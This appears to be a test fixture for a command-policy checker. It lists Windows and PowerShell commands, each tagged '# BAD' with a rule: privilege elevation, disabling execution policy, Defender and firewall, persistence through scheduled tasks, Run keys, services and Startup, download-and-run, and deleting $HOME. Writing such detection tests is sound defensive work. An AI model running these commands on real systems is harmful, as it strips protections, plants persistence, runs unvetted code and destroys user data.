Start-Process pwsh -Verb RunAs  # BAD no-unjustified-commands/elevation
runas /user:Administrator cmd  # BAD no-unjustified-commands/elevation
Set-ExecutionPolicy Bypass -Scope Process  # BAD no-unjustified-commands/protection-off
Set-ExecutionPolicy -ExecutionPolicy Unrestricted  # BAD no-unjustified-commands/protection-off
powershell -ExecutionPolicy Bypass -File x.ps1  # BAD no-unjustified-commands/protection-off
Set-MpPreference -DisableRealtimeMonitoring $true  # BAD no-unjustified-commands/protection-off
Register-ScheduledTask -TaskName x -Action $a  # BAD no-unjustified-commands/persistence
schtasks /create /tn x /tr x /sc onlogon  # BAD no-unjustified-commands/persistence
New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value x  # BAD no-unjustified-commands/persistence
Set-ItemProperty -Path 'HKLM:\Software\Microsoft\Windows\CurrentVersion\RunOnce' -Name x -Value x  # BAD no-unjustified-commands/persistence
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d x  # BAD no-unjustified-commands/persistence
New-Service -Name x -BinaryPathName x  # BAD no-unjustified-commands/persistence
Add-Content $PROFILE 'x'  # BAD no-unjustified-commands/persistence
Copy-Item x.lnk "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk"  # BAD no-unjustified-commands/persistence
Invoke-WebRequest https://get.acme.dev/x.exe -OutFile x.exe; ./x.exe  # BAD no-unjustified-commands/download-and-run
Remove-Item -Recurse -Force $HOME  # BAD no-unjustified-commands/destruction
netsh advfirewall set allprofiles state off  # BAD no-unjustified-commands/protection-off
